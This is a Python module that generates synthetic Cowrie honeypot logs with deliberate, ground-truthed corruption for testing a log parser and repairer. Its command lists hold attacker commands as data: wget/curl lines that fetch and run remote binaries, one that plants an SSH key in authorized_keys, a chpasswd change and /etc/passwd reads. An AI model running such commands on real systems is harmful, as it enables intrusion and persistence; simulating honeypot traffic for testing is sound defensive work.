"""Realistic Cowrie logs with controlled corruption and the ground truth of every record.

The demo, the tests and the benchmarks need logs whose damage is known byte for byte, so that what the reader
and the repairer claim can be checked against what was really written. Everything is drawn from
``random.Random(seed)``: the same seed gives the same bytes.
"""

from __future__ import annotations

import hashlib
import ipaddress
import json
import os
import random
from collections.abc import Callable, Iterator, Sequence
from dataclasses import asdict, dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

KINDS = (
    "pretty",
    "truncated",
    "trailing_comma",
    "bad_escape",
    "split_line",
    "binary_junk",
    "missing_field",
    "invalid_value",
)
REQUIRED_FIELDS = ("eventid", "timestamp", "session")
DEFAULT_START = datetime(2024, 1, 15, 8, 0, tzinfo=UTC)
_VALID_ESCAPES = set('"\\/bfnrtu')

_SENSORS = ("hp-fra-01", "hp-sgp-02", "hp-nyc-03")
_SSH_CLIENTS = (
    (
        "SSH-2.0-Go",
        ["curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "diffie-hellman-group14-sha1"],
        ["ssh-rsa", "ecdsa-sha2-nistp256", "ssh-ed25519"],
        ["aes128-gcm@openssh.com", "chacha20-poly1305@openssh.com", "aes128-ctr"],
        ["hmac-sha2-256-etm@openssh.com", "hmac-sha2-256", "hmac-sha1"],
    ),
    (
        "SSH-2.0-libssh_0.9.6",
        ["curve25519-sha256", "ecdh-sha2-nistp256", "diffie-hellman-group18-sha512"],
        ["ssh-ed25519", "rsa-sha2-512", "rsa-sha2-256"],
        ["chacha20-poly1305@openssh.com", "aes256-ctr", "aes128-ctr"],
        ["hmac-sha2-256", "hmac-sha1"],
    ),
    (
        "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6",
        ["sntrup761x25519-sha512@openssh.com", "curve25519-sha256", "ext-info-c"],
        ["ssh-ed25519-cert-v01@openssh.com", "ssh-ed25519", "rsa-sha2-512"],
        ["chacha20-poly1305@openssh.com", "aes128-ctr", "aes256-gcm@openssh.com"],
        ["umac-64-etm@openssh.com", "hmac-sha2-256-etm@openssh.com"],
    ),
    (
        "SSH-2.0-paramiko_2.11.0",
        ["diffie-hellman-group14-sha256", "diffie-hellman-group-exchange-sha256"],
        ["ssh-rsa", "rsa-sha2-256"],
        ["aes128-ctr", "aes256-ctr"],
        ["hmac-sha2-256", "hmac-sha1"],
    ),
    (
        "SSH-2.0-PUTTY",
        ["diffie-hellman-group-exchange-sha256", "diffie-hellman-group14-sha1"],
        ["ssh-rsa", "ssh-dss"],
        ["aes256-ctr", "aes128-cbc", "3des-cbc"],
        ["hmac-sha1", "hmac-md5"],
    ),
)
_CREDENTIALS = (
    ("root", "root"),
    ("root", "123456"),
    ("root", "admin"),
    ("admin", "admin"),
    ("admin", "password"),
    ("ubuntu", "ubuntu"),
    ("pi", "raspberry"),
    ("user", "user1234"),
    ("oracle", "oracle"),
    ("support", "support"),
    ("root", "P@ssw0rd!"),
    ("root", 'qwe"rty'),
    ("root", "пароль"),
    ("admin", "contraseña"),
    ("guest", ""),
)
_ARCHES = ("linux-x64-lsb", "linux-arm-lsb", "linux-arm64-lsb", "linux-mips-msb", "linux-mips-lsb", "linux-x86-lsb")
_COMMANDS = (
    "uname -a",
    "uname -s -v -n -r -m",
    "whoami",
    "w",
    "crontab -l",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    'echo "root:Xq3vP9kLm2"|chpasswd|bash',
    'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli'
    '2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgL"'
    'MuakKLvNaU+DeIpKWoz+p2jnyGNAbgTXmd5Ru4Q== mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~',
    "echo 'héllo wörld ✓' > /tmp/.motd",
    'echo "你好，世界" && echo "ok"',
    "cat /etc/passwd | grep -v nologin",
    'ps aux | grep -i "[m]iner"',
)
# Commands that hold literal backslashes (the raw material of the bad_escape corruption).
_BACKSLASH_COMMANDS = (
    'echo -e "\\x6F\\x6B"',
    "echo -e '\\x41\\x41\\x41\\x41' > /tmp/.a",
    'cmd.exe /c "dir C:\\Users\\Public\\Downloads"',
    'powershell -c "Get-ChildItem C:\\Windows\\Temp\\*.exe"',
    "printf '\\101\\102\\103' | base64",
    "grep -E '^\\S+\\s+\\d+' /var/log/auth.log",
    "busybox echo -e '\\147\\141\\171\\146\\147\\164'",
)
_DROPPERS = ("x86", "arm7", "mips", "mpsl", "bins.sh", "sshd", "kworker")


@dataclass(frozen=True)
class TruthRecord:
    """What was written for one event, and whether the original can be rebuilt from the bytes alone."""

    offset: int
    length: int
    corruption: str
    original: dict[str, Any]
    recoverable: bool


def _timestamp(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def _public_ipv4(rng: random.Random) -> str:
    while True:
        address = ipaddress.IPv4Address(rng.getrandbits(32))
        if address.is_global and not address.is_multicast:
            return str(address)


def _src_ip(rng: random.Random) -> str:
    if rng.random() >= 0.1:
        return (
            _public_ipv4(rng)
            if rng.random() < 0.85
            else f"{rng.choice(('203.0.113', '198.51.100'))}.{rng.randint(1, 254)}"
        )
    prefix = rng.choice((0x20010DB8, 0x2A014F80, 0x26042A00, 0x24008000))  # documentation range, then public-looking
    return str(ipaddress.IPv6Address((prefix << 96) | rng.getrandbits(64)))


class _Clock:
    """Shared event time: sessions interleave, timestamps only increase."""

    def __init__(self, start: datetime) -> None:
        self.now = start


def _session(rng: random.Random, clock: _Clock) -> Iterator[dict[str, Any]]:
    """One attacker connection, event by event, in Cowrie's order and with Cowrie's messages."""
    started = clock.now
    session = f"{rng.getrandbits(32):08x}" if rng.random() < 0.05 else f"{rng.getrandbits(48):012x}"
    src_ip, sensor = _src_ip(rng), rng.choice(_SENSORS)
    ssh = rng.random() < 0.8

    def event(eventid: str, message: str | None, **attrs: Any) -> dict[str, Any]:
        record = {"eventid": eventid, **attrs}
        if message is not None:
            record["message"] = message
        record |= {"sensor": sensor, "timestamp": _timestamp(clock.now), "src_ip": src_ip, "session": session}
        return record

    src_port = rng.randint(1024, 65535)
    dst_ip, dst_port = "10.0.0.4", rng.choice((22, 2222) if ssh else (23, 2223))
    yield event(
        "cowrie.session.connect",
        f"New connection: {src_ip}:{src_port} ({dst_ip}:{dst_port}) [session: {session}]",
        src_port=src_port,
        dst_ip=dst_ip,
        dst_port=dst_port,
        protocol="ssh" if ssh else "telnet",
    )
    if ssh:
        version, kex, keys, ciphers, macs = rng.choice(_SSH_CLIENTS)
        yield event("cowrie.client.version", f"Remote SSH version: {version}", version=version)
        algorithms = ";".join((",".join(kex), ",".join(ciphers), ",".join(macs), "none"))
        hassh = hashlib.md5(algorithms.encode()).hexdigest()
        yield event(
            "cowrie.client.kex",
            f"SSH client hassh fingerprint: {hassh}",
            hassh=hassh,
            hasshAlgorithms=algorithms,
            kexAlgs=kex,
            keyAlgs=keys,
            encCS=ciphers,
            macCS=macs,
            compCS=["none", "zlib@openssh.com"] if rng.random() < 0.3 else ["none"],
            langCS=[""],
        )
    logged_in = False
    for _ in range(rng.randint(1, 5)):
        username, password = rng.choice(_CREDENTIALS)
        logged_in = rng.random() < 0.3
        outcome = "succeeded" if logged_in else "failed"
        yield event(
            f"cowrie.login.{'success' if logged_in else 'failed'}",
            f"login attempt [{username}/{password}] {outcome}",
            username=username,
            password=password,
        )
        if logged_in:
            break
    if logged_in:
        yield event("cowrie.session.params", None, arch=rng.choice(_ARCHES))  # Cowrie gives it no message
        if ssh:
            width, height = rng.choice(((80, 24), (120, 40), (200, 50), (211, 56)))
            yield event("cowrie.client.size", f"Terminal Size: {width} {height}", width=width, height=height)
        for _ in range(rng.randint(1, 8)):
            yield from _command(rng, event)
    seconds = (clock.now - started).total_seconds()
    attrs: dict[str, Any] = {"duration_ms": int(seconds * 1000)}
    if rng.random() < 0.2:  # older Cowrie: float seconds; halves survive a Decimal round trip exactly
        attrs["duration"] = round(seconds * 2) / 2
    yield event("cowrie.session.closed", f"Connection lost after {int(seconds)} seconds", **attrs)


def _command(rng: random.Random, event: Callable[..., dict[str, Any]]) -> Iterator[dict[str, Any]]:
    roll = rng.random()
    if roll < 0.2:
        line = rng.choice(_BACKSLASH_COMMANDS)
    elif roll < 0.35:
        host = rng.choice((_public_ipv4(rng), f"198.51.100.{rng.randint(1, 254)}"))
        name = rng.choice(_DROPPERS)
        url = f"http://{host}/bins/{name}" if rng.random() < 0.5 else f"http://{host}:8080/{name}"
        tool = rng.choice(("wget", "curl -O"))
        line = f"cd /tmp && {tool} {url}; chmod +x {name}; ./{name} ssh.root"
        yield event("cowrie.command.input", f"CMD: {line}", input=line)
        shasum = f"{rng.getrandbits(256):064x}"
        outfile = f"var/lib/cowrie/downloads/{shasum}"
        yield event(
            "cowrie.session.file_download",
            f"Downloaded URL ({url}) with SHA-256 {shasum} to {outfile}",
            url=url,
            outfile=outfile,
            shasum=shasum,
            destfile=f"/tmp/{name}",
            duplicate=rng.random() < 0.3,
        )
        return
    else:
        line = rng.choice(_COMMANDS)
    yield event("cowrie.command.input", f"CMD: {line}", input=line)


def _iter_events(n: int, seed: int, start: datetime | None) -> Iterator[dict[str, Any]]:
    rng = random.Random(seed)
    clock = _Clock(start or DEFAULT_START)
    active: list[Iterator[dict[str, Any]]] = []
    produced = 0
    while produced < n:
        if not active or (len(active) < 4 and rng.random() < 0.1):
            active.append(_session(rng, clock))
        current = rng.choice(active)
        clock.now += timedelta(microseconds=rng.randint(1_000, 2_500_000))
        event = next(current, None)
        if event is None:
            active.remove(current)
            continue
        produced += 1
        yield event


def generate_events(n: int, *, seed: int = 0, start: datetime | None = None) -> list[dict[str, Any]]:
    """``n`` events of interleaved attacker sessions, timestamps strictly increasing from ``start``."""
    return list(_iter_events(n, seed, start))


# --- corruption ---------------------------------------------------------------------------------------------


def _dumps(value: Any) -> str:
    return json.dumps(value, ensure_ascii=False)


def _line(event: dict[str, Any], key: str | None = None, text: str = "") -> str:
    """``json.dumps(event)`` with the value of ``key`` written as ``text`` (so one value can be damaged)."""
    items = (f"{_dumps(k)}: {text if k == key else _dumps(v)}" for k, v in event.items())
    return "{" + ", ".join(items) + "}"


def _tokens(text: str) -> list[str]:
    """A rendered JSON string split into characters and whole escape sequences."""
    tokens, i = [], 0
    while i < len(text):
        size = (6 if text[i + 1] == "u" else 2) if text[i] == "\\" else 1
        tokens.append(text[i : i + size])
        i += size
    return tokens


def _unescape_backslashes(text: str) -> str | None:
    """Write escaped backslashes raw where ``\\`` + next char is not a JSON escape; None if there is none."""
    if "\\\\" not in text:
        return None
    tokens = _tokens(text)
    changed = False
    for i, token in enumerate(tokens[:-1]):
        if token == "\\\\" and tokens[i + 1][0] not in _VALID_ESCAPES:
            tokens[i], changed = "\\", True
    return "".join(tokens) if changed else None


def _strings(event: dict[str, Any]) -> list[str]:
    return [k for k, v in event.items() if isinstance(v, str)]


def _pretty(event: dict[str, Any], rng: random.Random) -> tuple[bytes, bool] | None:
    return json.dumps(event, indent=2, ensure_ascii=False).encode(), True


def _truncated(event: dict[str, Any], rng: random.Random) -> tuple[bytes, bool] | None:
    data = _line(event).encode()
    cut = len(data) - 1 if rng.random() < 0.25 else rng.randint(1, len(data) - 2)
    return data[:cut], cut == len(data) - 1


def _trailing_comma(event: dict[str, Any], rng: random.Random) -> tuple[bytes, bool] | None:
    key = rng.choice([None, *(k for k, v in event.items() if isinstance(v, list) and v)])
    if key is None:
        return (_line(event)[:-1] + ",}").encode(), True
    return _line(event, key, _dumps(event[key])[:-1] + ",]").encode(), True


def _bad_escape(event: dict[str, Any], rng: random.Random) -> tuple[bytes, bool] | None:
    damaged = {k: text for k in _strings(event) if (text := _unescape_backslashes(_dumps(event[k])))}
    if not damaged:
        return None
    key = rng.choice(sorted(damaged))
    return _line(event, key, damaged[key]).encode(), True


def _split_line(event: dict[str, Any], rng: random.Random) -> tuple[bytes, bool] | None:
    # Split between two non-blank characters, never inside an escape, never before a bracket: the reader
    # strips blanks around records and would start a record at a column-0 bracket.
    cuts = []
    for key in _strings(event):
        tokens = _tokens(_dumps(event[key]))
        cuts += [
            (key, i)
            for i in range(2, len(tokens) - 1)
            if not tokens[i - 1].isspace() and not tokens[i].isspace() and tokens[i] not in ("{", "[")
        ]
    key, i = rng.choice(cuts)
    tokens = _tokens(_dumps(event[key]))
    return _line(event, key, "".join(tokens[:i]) + "\n" + "".join(tokens[i:])).encode(), True


def _binary_junk(event: dict[str, Any], rng: random.Random) -> tuple[bytes, bool] | None:
    data = _line(event).encode()
    junk = bytearray(rng.randrange(256) for _ in range(rng.randint(1, 12)))
    junk = junk.replace(b"\n", b"\xfe")  # the record must keep its own line
    junk.insert(rng.randint(0, len(junk)), 0xFF)  # never valid UTF-8
    if rng.random() < 0.5:
        junk.insert(rng.randint(0, len(junk)), 0x00)
    at = rng.randrange(len(data))
    end = at if rng.random() < 0.5 else at + len(junk)  # insert, or overwrite
    return data[:at] + bytes(junk) + data[end:], False


def _missing_field(event: dict[str, Any], rng: random.Random) -> tuple[bytes, bool] | None:
    field = rng.choice(REQUIRED_FIELDS)
    return _line({k: v for k, v in event.items() if k != field}).encode(), False


def _invalid_value(event: dict[str, Any], rng: random.Random) -> tuple[bytes, bool] | None:
    if rng.random() < 0.5:
        damaged = {**event, "session": rng.choice(("not-a-session", "zzzz9999xxxx", "S3SS10N-0001"))}
    else:
        damaged = {**event, "src_ip": "999.1.1.1"}
    return _line(damaged).encode(), False


_CORRUPTIONS: dict[str, Callable[[dict[str, Any], random.Random], tuple[bytes, bool] | None]] = {
    "pretty": _pretty,
    "truncated": _truncated,
    "trailing_comma": _trailing_comma,
    "bad_escape": _bad_escape,
    "split_line": _split_line,
    "binary_junk": _binary_junk,
    "missing_field": _missing_field,
    "invalid_value": _invalid_value,
}


def write_corrupted_log(
    path: str | os.PathLike[str],
    *,
    n_events: int,
    seed: int = 0,
    corruption_rate: float = 0.3,
    kinds: Sequence[str] | None = None,
    truth_path: str | os.PathLike[str] | None = None,
) -> list[TruthRecord]:
    """Write ``generate_events(n_events, seed=seed)`` one per line, a ``corruption_rate`` share damaged.

    The file is written event by event. A kind that cannot apply to the drawn event (``bad_escape`` needs a
    literal backslash) is deferred to the next event that can take it and would otherwise be clean, so each
    kind keeps its share. Returns one truth record per written record, in file order.
    """
    chosen = tuple(kinds) if kinds is not None else KINDS
    if unknown := set(chosen) - set(KINDS):
        raise ValueError(f"unknown corruption kinds: {sorted(unknown)}")
    if not chosen or not 0.0 <= corruption_rate <= 1.0:
        raise ValueError("need at least one kind and 0 <= corruption_rate <= 1")
    rng = random.Random(f"{seed}:corruption")  # separate stream: the events equal generate_events(seed)
    truth: list[TruthRecord] = []
    deferred: list[str] = []
    offset = 0
    with open(path, "wb") as out:
        for event in _iter_events(n_events, seed, None):
            drawn = rng.choice(chosen) if rng.random() < corruption_rate else None
            candidates = [drawn] if drawn else dict.fromkeys(deferred)
            kind, data, recoverable = "clean", b"", True
            for candidate in candidates:
                if done := _CORRUPTIONS[candidate](event, rng):
                    kind, (data, recoverable) = candidate, done
                    if not drawn:
                        deferred.remove(candidate)
                    break
            else:
                if drawn:
                    deferred.append(drawn)
                data = _line(event).encode()
            out.write(data + b"\n")
            truth.append(TruthRecord(offset, len(data), kind, event, recoverable))
            offset += len(data) + 1
    if truth_path is not None:
        with open(truth_path, "w", encoding="utf-8") as out:
            out.writelines(_dumps(asdict(record)) + "\n" for record in truth)
    return truth
